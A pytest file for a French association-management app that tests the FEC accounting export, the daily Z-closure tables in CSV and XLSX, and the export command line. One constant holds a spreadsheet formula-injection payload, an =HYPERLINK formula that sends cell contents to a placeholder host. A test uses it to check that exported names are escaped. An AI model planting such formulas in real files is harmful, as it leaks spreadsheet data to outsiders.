"""The accountant's export: the FEC (art. A47 A-1 du LPF) and the table of the day Zs.

Every kind of money is made through its own service (a sale and its reversal closed by a day
Z, an invoice, its credit note and payment, a membership, a donation, a coworking pass), then
the entries are checked account by account, each balanced; the file is read back with
``csv`` and with a strict pattern per column of the official description (18 fields, dates
AAAAMMJJ, amounts with a decimal comma); the Z totals with ``csv`` and openpyxl; the command
line writes both and refuses bad dates with a French message and exit 2.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections import defaultdict
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlmodel import Session, select

from tiers_lieu.__main__ import main
from tiers_lieu.app import Comptoir, build
from tiers_lieu.models import AuditEntry, TillClosure
from tiers_lieu.models.enums import PaymentMethod
from tiers_lieu.reports.documents.fec import (
    fec_file_name,
    fec_text,
    write_fec,
    write_z_csv,
    write_z_xlsx,
)
from tiers_lieu.services.agenda.passes import PassService
from tiers_lieu.services.grocery.products import ProductFields
from tiers_lieu.services.grocery.sales import LineInput, PaymentInput
from tiers_lieu.services.people import PersonInput
from tiers_lieu.services.readmodels import SiteInfo
from tiers_lieu.services.till.billing import BillingSettings
from tiers_lieu.services.till.clients import ClientInput
from tiers_lieu.services.till.donations import DonationInput, DonorInput
from tiers_lieu.services.till.fec import COLUMNS, FecExport, FecLine
from tiers_lieu.services.till.invoices import DocumentInput
from tiers_lieu.services.till.invoices import LineInput as InvoiceLineInput
from tiers_lieu.services.till.invoices import PaymentInput as InvoicePayment

SIRET = "73282932000074"
HOSTILE = '=HYPERLINK("http://x.example/?d="&A1;"clic")'

#: One pattern per column of art. A47 A-1 (VII): what a strict reader accepts.
DAY = r"\d{4}(0[1-9]|1[0-2])(0[1-9]|[12]\d|3[01])"
AMOUNT = r"\d+,\d{2}"
PATTERNS: dict[str, str] = {
    "JournalCode": r"[A-Z0-9]{1,10}",
    "JournalLib": r"\S.*",
    "EcritureNum": r"[1-9]\d*",
    "EcritureDate": DAY,
    "CompteNum": r"\d{3}[0-9A-Z]*",
    "CompteLib": r"\S.*",
    "CompAuxNum": r"([0-9A-Z]+)?",
    "CompAuxLib": r"(.*)?",
    "PieceRef": r"\S.*",
    "PieceDate": DAY,
    "EcritureLib": r"\S.*",
    "Debit": AMOUNT,
    "Credit": AMOUNT,
    "EcritureLet": r"([0-9A-Za-z-]+)?",
    "DateLet": f"({DAY})?",
    "ValidDate": DAY,
    "Montantdevise": r"",
    "Idevise": r"",
}


def today_of(app: Comptoir, site: SiteInfo) -> date:
    return datetime.now(UTC).astimezone(site.zone).date()


def product(app: Comptoir, site: SiteInfo, name: str, price: int, rate: int) -> uuid.UUID:
    created = app.grocery.products.create(
        site.id, ProductFields(name=name, price_cents=price, vat_rate_bp=rate)
    )
    app.grocery.stock.receive(
        site_id=site.id, product_id=created.id, quantity_milli=50000, unit_cost_cents=None
    )
    return created.id


@pytest.fixture
def money(app: Comptoir, site: SiteInfo) -> dict[str, Any]:
    return make_money(app, site)


def make_money(app: Comptoir, site: SiteInfo) -> dict[str, Any]:
    """A day of everything: two sales (one reversed) closed by a Z, an invoice with two VAT
    rates, its partial credit note and the payment of the rest, a membership, a donation and
    a coworking pass, with the place's SIRET filled in."""
    today = today_of(app, site)
    app.billing.save(
        site.id,
        BillingSettings(
            legal_name="Association Le Comptoir",
            siret=SIRET,
            address="1 place du Marché",
            postal_code="23500",
            city="Felletin",
            vat_regime="assujetti",
            vat_number="FR40732829320",
        ),
    )
    jam = product(app, site, "Confiture", 650, 550)
    soap = product(app, site, "Savon", 450, 2000)
    kept = app.grocery.sales.record(
        site_id=site.id,
        lines=[LineInput(jam, 2000), LineInput(soap, 1000)],
        payments=[PaymentInput("card", 1000), PaymentInput("cash", 1000)],
    )
    reversed_ = app.grocery.sales.record(
        site_id=site.id,
        lines=[LineInput(soap, 2000)],
        payments=[PaymentInput("cheque", 900)],
    )
    app.grocery.sales.cancel(reversed_.id)
    app.till_closures.close_day(site_id=site.id, day=today)

    client = app.clients.create(
        site.id,
        ClientInput(
            name="Mairie d'Aubusson",
            address="1 place de la Mairie",
            postal_code="23200",
            city="Aubusson",
        ),
    )
    draft = app.invoices.create(
        site.id,
        "invoice",
        DocumentInput(
            client_id=client.id,
            subject="Location de salle",
            lines=(
                InvoiceLineInput(description="Salle", unit_price_cents=10000, vat_rate_bp=2000),
                InvoiceLineInput(description="Repas", unit_price_cents=2000, vat_rate_bp=1000),
            ),
        ),
    )
    invoice = app.invoices.issue(draft.id, issued_on=today)
    credit = app.invoices.credit(
        invoice.id,
        lines=[InvoiceLineInput(description="Repas", unit_price_cents=2000, vat_rate_bp=1000)],
        issued_on=today,
    )
    app.invoices.record_payment(
        invoice.id, InvoicePayment(amount_cents=12000, method="transfer", paid_on=today)
    )

    person = app.people.create(site.id, PersonInput(first_name="Aline", last_name="Dubreuil"))
    app.memberships.add(
        person_id=person.id,
        start_date=today,
        period="year",
        fee_cents=1500,
        method=PaymentMethod.CASH,
    )
    app.donations.record(
        site.id,
        DonationInput(
            donor=DonorInput(last_name="Martin", first_name="Jeanne"),
            amount_cents=5000,
            received_on=today,
            method="cheque",
        ),
    )
    passes: PassService = app.agenda.passes
    day_pass = passes.create_type(site_id=site.id, name="Journée", kind="day", price_cents=1200)
    passes.sell(
        site_id=site.id, person_id=person.id, pass_type_id=day_pass.id, method="card", paid_on=today
    )
    return {
        "today": today,
        "kept": kept,
        "invoice": app.invoices.get(invoice.id),
        "credit": credit,
        "client": client,
    }


def by_entry(export: FecExport) -> dict[tuple[str, int], list[FecLine]]:
    entries: dict[tuple[str, int], list[FecLine]] = defaultdict(list)
    for line in export.lines:
        entries[(line.journal_code, line.entry_number)].append(line)
    return entries


def balance(lines: list[FecLine]) -> dict[str, int]:
    """Account → debit minus credit."""
    result: dict[str, int] = defaultdict(int)
    for line in lines:
        result[line.account] += line.debit_cents - line.credit_cents
    return dict(result)


# -- the entries ---------------------------------------------------------------------------
def test_every_kind_of_money_lands_on_its_accounts(
    app: Comptoir, site: SiteInfo, money: dict[str, Any]
) -> None:
    today = money["today"]
    export = app.fec.entries(site.id, start=today - timedelta(days=31), end=today)
    entries = by_entry(export)
    for key, lines in entries.items():
        assert sum(x.debit_cents for x in lines) == sum(x.credit_cents for x in lines), key
        assert all((x.debit_cents == 0) != (x.credit_cents == 0) for x in lines), key
    assert export.debit_cents == export.credit_cents
    assert export.siren == SIRET[:9]
    assert export.warnings == (
        "Les passes de coworking sont passés TTC au compte 706 : leur TVA est à ventiler par "
        "le comptable.",
    )

    # (a) The day Z: the kept sale (13,00 at 5,5 % + 4,50 at 20 %), the reversed one gone:
    # card 10,00 and cash 7,50 (the cheque 9,00 paid and refunded).
    (z,) = [lines for (journal, _n), lines in entries.items() if journal == "CA"]
    assert z[0].piece_ref.startswith("Z") and z[0].entry_date == today
    sums = balance(z)
    assert sums["5115"] == 1000 and sums["530"] == 750 and "5112" not in sums
    vat_55 = (1300 * 550 * 2 + 10550) // (2 * 10550)
    vat_20 = (450 * 2000 * 2 + 12000) // (2 * 12000)
    assert sums["44571"] == -(vat_55 + vat_20)
    assert sums["707"] == -(1750 - vat_55 - vat_20)
    assert {x.account_label for x in z if x.account == "707"} == {
        "Ventes de marchandises 5,5 %",
        "Ventes de marchandises 20 %",
    }

    # (b) The invoice (100 + 20 % and 20 + 10 %) and its credit note (20 + 10 %), reversed.
    invoice, credit = money["invoice"], money["credit"]
    sales = {
        lines[0].piece_ref: lines for (journal, _n), lines in entries.items() if journal == "VT"
    }
    assert set(sales) == {invoice.row.number, credit.row.number}
    assert balance(sales[invoice.row.number]) == {"411": 14200, "706": -12000, "44571": -2200}
    assert balance(sales[credit.row.number]) == {"411": -2200, "706": 2000, "44571": 200}
    client_line = next(x for x in sales[invoice.row.number] if x.account == "411")
    assert client_line.aux_label == "Mairie d'Aubusson"
    assert client_line.aux_account.startswith("MAIRIEDAUB")
    # Settled (credit note + payment): lettered with the invoice's number, on every 411 line.
    lettered = [x for x in export.lines if x.account == "411"]
    assert len(lettered) == 3
    assert {(x.lettering, x.lettering_date) for x in lettered} == {(invoice.row.number, today)}
    assert {x.aux_account for x in lettered} == {client_line.aux_account}

    # (c)–(f) The receipts journal: payment, membership, donation, pass.
    receipts = [lines for (journal, _n), lines in entries.items() if journal == "EN"]
    assert sorted((balance(lines) for lines in receipts), key=str) == sorted(
        [
            {"512": 12000, "411": -12000},
            {"530": 1500, "756": -1500},
            {"5112": 5000, "7541": -5000},
            {"5115": 1200, "706": -1200},
        ],
        key=str,
    )
    labels = {x.label for lines in receipts for x in lines}
    assert any(label.startswith("Cotisation") and "Aline Dubreuil" in label for label in labels)
    assert any(label.startswith("Don Jeanne Martin") for label in labels)

    # Numbered in each journal from the year's first (the place's only entries), without a
    # gap, in the file's order: 2026000001, 2026000002… (test_till_fec_numbers.py).
    for journal in ("CA", "VT", "EN"):
        numbers = [x.entry_number for x in export.lines if x.journal_code == journal]
        first = today.year * 1_000_000 + 1
        assert numbers == sorted(numbers) and set(numbers) == set(range(first, max(numbers) + 1))


def test_a_day_without_its_z_is_left_out_and_said(app: Comptoir, site: SiteInfo) -> None:
    today = today_of(app, site)
    soap = product(app, site, "Savon", 450, 2000)
    app.grocery.sales.record(
        site_id=site.id, lines=[LineInput(soap, 1000)], payments=[PaymentInput("cash", 450)]
    )
    export = app.fec.entries(site.id, start=today, end=today)
    assert export.lines == ()
    (warning, siren) = export.warnings
    assert warning.startswith("1 jour de vente sans Z n'est pas exporté (")
    assert today.strftime("%d/%m/%Y") in warning
    assert siren.startswith("SIREN inconnu")
    assert fec_file_name(export) == f"000000000FEC{today:%Y%m%d}.txt"
    assert app.fec.z_totals(site.id, start=today, end=today).warnings == (warning,)


def closure(
    app: Comptoir,
    site: SiteInfo,
    number: int,
    day: date,
    by_method: dict[str, int],
    by_vat: dict[str, list[int]],
) -> None:
    """A day Z written as the closures service writes it (a complete row, never changed)."""
    total = sum(by_method.values())
    with Session(app.engine) as session:
        session.add(
            TillClosure(
                site_id=site.id,
                kind="day",
                number=number,
                period_start=day,
                period_end=day,
                first_ticket=number,
                last_ticket=number,
                tickets=1,
                total_cents=total,
                grand_total_cents=total * number,
                totals=json.dumps({"by_method": by_method, "by_vat": by_vat}),
                closed_at=datetime(day.year, day.month, day.day, 19, tzinfo=UTC),
                closed_by="Test",
            )
        )
        session.commit()


def test_a_refund_day_and_totals_that_disagree_stay_balanced(app: Comptoir, site: SiteInfo) -> None:
    day = date(2026, 3, 2)
    # A day of refunds only: the card paid back more than the cash took in.
    closure(app, site, 1, day, {"card": -1200, "cash": 200}, {"2000": [-1000, -167]})
    # A Z whose methods and VAT rates do not add up (9,00 against 10,00).
    closure(app, site, 2, day + timedelta(days=1), {"cash": 900}, {"550": [1000, 52]})
    export = app.fec.entries(site.id, start=day, end=day + timedelta(days=1))
    first, second = by_entry(export).values()
    assert balance(first) == {"5115": -1200, "530": 200, "707": 833, "44571": 167}
    assert all(x.debit_cents >= 0 and x.credit_cents >= 0 for x in export.lines)
    assert balance(second) == {"530": 900, "707": -948, "44571": -52, "471": 100}
    assert any("compte 471" in w and "Z2" in w for w in export.warnings)


def test_the_entries_are_the_same_on_postgresql(pg_url: str) -> None:
    pg = build(pg_url)
    try:
        site = pg.sites.init_site(name="Le Comptoir", commune_name="Felletin", insee_code="23079")
        today = make_money(pg, site)["today"]
        export = pg.fec.entries(site.id, start=today - timedelta(days=31), end=today)
        assert export.debit_cents == export.credit_cents
        assert {journal: len(lines) for journal, lines in _journals(export).items()} == {
            "CA": 6,
            "EN": 8,
            "VT": 8,
        }
        assert all(line.lettering for line in export.lines if line.account == "411")
    finally:
        pg.close()


def _journals(export: FecExport) -> dict[str, list[FecLine]]:
    found: dict[str, list[FecLine]] = defaultdict(list)
    for line in export.lines:
        found[line.journal_code].append(line)
    return found


# -- the file --------------------------------------------------------------------------------
def read_fec(path: Path, separator: str = "\t") -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte order mark
    text = raw.decode("iso-8859-15")  # one of the article's three character sets
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(
        csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=csv.QUOTE_NONE)
    )
    assert rows[0] == list(COLUMNS)
    assert all(len(row) == 18 for row in rows), [len(r) for r in rows]
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def strictly(path: Path, separator: str = "\t") -> list[dict[str, str]]:
    """A second reader: the lines split by hand, each field held to its column's pattern."""
    lines = path.read_bytes().decode("iso-8859-15").split("\r\n")
    assert lines[-1] == ""
    rows = []
    for number, line in enumerate(lines[1:-1], start=2):
        values = line.split(separator)
        assert len(values) == 18, number
        for name, value in zip(COLUMNS, values, strict=True):
            assert re.fullmatch(PATTERNS[name], value), (number, name, value)
        for name in ("EcritureDate", "PieceDate", "ValidDate", "DateLet"):
            if values[COLUMNS.index(name)]:
                datetime.strptime(values[COLUMNS.index(name)], "%Y%m%d")  # a real day
        rows.append(dict(zip(COLUMNS, values, strict=True)))
    return rows


def cents(text: str) -> int:
    whole, part = text.split(",")
    return int(whole) * 100 + int(part)


@pytest.mark.parametrize("separator", ["\t", "|"])
def test_the_file_reads_back_as_the_article_describes(
    app: Comptoir, site: SiteInfo, money: dict[str, Any], tmp_path: Path, separator: str
) -> None:
    today = money["today"]
    export = app.fec.entries(site.id, start=today, end=today)
    written = write_fec(export, tmp_path, separator)
    assert written.name == f"{SIRET[:9]}FEC{today:%Y%m%d}.txt"
    rows = read_fec(written, separator)
    assert rows == strictly(written, separator)
    assert len(rows) == len(export.lines)
    totals: dict[tuple[str, str], list[int]] = defaultdict(lambda: [0, 0])
    for row in rows:
        key = (row["JournalCode"], row["EcritureNum"])
        totals[key][0] += cents(row["Debit"])
        totals[key][1] += cents(row["Credit"])
        assert (row["CompAuxNum"] == "") == (row["CompAuxLib"] == "")  # in pairs
        assert (row["EcritureLet"] == "") == (row["DateLet"] == "")
        assert row["EcritureDate"] <= row["ValidDate"]
    assert all(debit == credit for debit, credit in totals.values())
    # Ordered by validation date, then journal and number.
    order = [(r["ValidDate"], r["JournalCode"], int(r["EcritureNum"])) for r in rows]
    assert order == sorted(order)
    assert any(r["CompteLib"] == "Ventes de marchandises 5,5 %" for r in rows)


def test_names_are_kept_on_one_line_and_never_run_as_formulas(
    app: Comptoir, site: SiteInfo, tmp_path: Path
) -> None:
    today = today_of(app, site)
    app.billing.save(
        site.id,
        BillingSettings(
            legal_name="Le Comptoir", rna="W231000123", address="1 place", postal_code="23500",
            city="Felletin",
        ),
    )  # fmt: skip
    client = app.clients.create(
        site.id,
        ClientInput(name=HOSTILE, address="2 rue Haute", postal_code="23000", city="Guéret"),
    )
    draft = app.invoices.create(
        site.id,
        "invoice",
        DocumentInput(
            client_id=client.id,
            subject="Atelier",
            lines=(InvoiceLineInput(description="Atelier", unit_price_cents=5000),),
        ),
    )
    app.invoices.issue(draft.id, issued_on=today)
    export = app.fec.entries(site.id, start=today, end=today)
    rows = read_fec(write_fec(export, tmp_path / "fec.txt"))
    aux = {r["CompAuxLib"] for r in rows if r["CompAuxLib"]}
    assert aux == {"'" + HOSTILE}
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    # Under the 293 B franchise: no VAT line, the price on 706.
    assert {r["CompteNum"] for r in rows} == {"411", "706"}


# -- the Z totals ----------------------------------------------------------------------------
def test_the_z_totals_read_back_in_csv_and_xlsx(
    app: Comptoir, site: SiteInfo, tmp_path: Path
) -> None:
    day = date(2026, 3, 2)
    closure(app, site, 1, day, {"cash": 1000, "card": 550}, {"550": [1550, 81]})
    closure(app, site, 2, day + timedelta(days=1), {"voucher": 2400}, {"2000": [2400, 400]})
    totals = app.fec.z_totals(site.id, start=day, end=day + timedelta(days=6))
    assert [r.number for r in totals.rows] == [1, 2]
    assert totals.methods == ("cash", "card", "voucher")
    assert totals.rates == (550, 2000)

    write_z_csv(totals, tmp_path / "z.csv")
    text = (tmp_path / "z.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == [
        "N° de Z", "Date", "Tickets", "Annulations", "Total TTC", "Espèces", "Carte bancaire",
        "Bon alimentaire", "HT 5,5\xa0%", "TVA 5,5\xa0%", "TTC 5,5\xa0%", "HT 20\xa0%",
        "TVA 20\xa0%", "TTC 20\xa0%", "Grand total perpétuel",
    ]  # fmt: skip
    assert rows[1] == [
        "1", "02/03/2026", "1", "0", "15,50", "10,00", "5,50", "0,00", "14,69", "0,81", "15,50",
        "0,00", "0,00", "0,00", "15,50",
    ]  # fmt: skip
    assert rows[3][:5] == ["", "Total", "2", "0", "39,50"] and rows[3][-1] == ""

    write_z_xlsx(totals, tmp_path / "z.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "z.xlsx").active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    assert values[2][:5] == [2, datetime(2026, 3, 3), 1, 0, 24.0]
    assert values[2][7] == 24.0 and values[2][13] == 24.0 and values[2][12] == 4.0
    assert values[3][4] == 39.5


# -- the command line ---------------------------------------------------------------------------
def test_the_command_writes_the_fec_and_the_z_table(
    app: Comptoir, site: SiteInfo, money: dict[str, Any], tmp_path: Path, capsys: Any
) -> None:
    today = money["today"]
    period = ["--from", (today - timedelta(days=3)).isoformat(), "--to", today.isoformat()]
    db = str(app.url)
    assert main(["--db", db, "export", "fec", *period, "--out", str(tmp_path)]) == 0
    said = capsys.readouterr().out
    official = tmp_path / f"{SIRET[:9]}FEC{today:%Y%m%d}.txt"
    assert official.exists() and str(official) in said
    assert "Attention : Les passes de coworking" in said
    lines = len(strictly(official))
    assert lines == len(app.fec.entries(site.id, start=today, end=today).lines) == 22
    with Session(app.engine) as session:
        (noted,) = session.exec(select(AuditEntry).where(AuditEntry.entity == "fec")).all()
    assert noted.action == "export" and noted.site_id == site.id
    assert "Dubreuil" not in noted.details and f'"lines": {lines}' in noted.details

    out = tmp_path / "clotures.xlsx"
    argv = ["--db", db, "export", "clotures", *period, "--site", site.name, "--out", str(out)]
    assert main(argv) == 0
    assert "1 Z quotidien de Le Comptoir de Felletin" in capsys.readouterr().out
    assert openpyxl.load_workbook(out).active.cell(row=2, column=1).value == 1  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (["--from", "2026-13-01", "--to", "2026-12-31"], "--from"),
        (["--from", "2026-01-01", "--to", "31/12/2026"], "--to"),
        (["--from", "2026-12-31", "--to", "2026-01-01"], "précède le début"),
        (["--to", "2026-12-31"], "--from et --to"),
        (["--from", "2026-01-01", "--to", "2026-12-31", "--format", "csv"], "--format"),
    ],
)
def test_bad_dates_give_a_french_message_and_write_nothing(
    app: Comptoir, site: SiteInfo, tmp_path: Path, capsys: Any, options: list[str], said: str
) -> None:
    out = tmp_path / "fec.txt"
    assert main(["--db", str(app.url), "export", "fec", *options, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Erreur : ") and said in err and "Traceback" not in err
    assert not out.exists()


def test_the_z_table_needs_a_file_name(
    app: Comptoir, site: SiteInfo, tmp_path: Path, capsys: Any
) -> None:
    argv = ["--db", str(app.url), "export", "clotures", "--from", "2026-01-01", "--to"]
    assert main([*argv, "2026-01-31", "--out", str(tmp_path)]) == 2
    assert "--out : « " in capsys.readouterr().err
    assert not [p for p in tmp_path.iterdir() if not p.name.startswith("comptoir.sqlite")]


def test_a_base_of_several_places_asks_which(two: Comptoir, tmp_path: Path, capsys: Any) -> None:
    out = tmp_path / "fec.txt"
    argv = ["--db", str(two.url), "export", "fec", "--from", "2026-01-01", "--to", "2026-01-31"]
    assert main([*argv, "--out", str(out)]) == 2
    assert "--site : le FEC est celui d'un lieu" in capsys.readouterr().err
    assert not out.exists()


def test_the_text_holds_the_header_alone_for_an_empty_period(app: Comptoir, site: SiteInfo) -> None:
    export = app.fec.entries(site.id, start=date(2026, 1, 1), end=date(2026, 1, 31))
    assert fec_text(export) == "\t".join(COLUMNS) + "\r\n"


def test_a_gift_in_kind_is_left_to_the_accountant(app: Comptoir, site: SiteInfo) -> None:
    today = today_of(app, site)
    donor = DonorInput(last_name="Martin", first_name="Jeanne")
    app.donations.record(
        site.id,
        DonationInput(
            donor=donor, amount_cents=8000, received_on=today, form="kind", description="Chaises"
        ),
    )
    app.donations.record(
        site.id, DonationInput(donor=donor, amount_cents=2000, received_on=today, method="cash")
    )
    export = app.fec.entries(site.id, start=today, end=today)
    assert balance(list(export.lines)) == {"530": 2000, "7541": -2000}
    assert export.warnings[0] == (
        "1 don en nature ou en titres n'est pas exporté : sa valorisation est à passer par le "
        "comptable."
    )
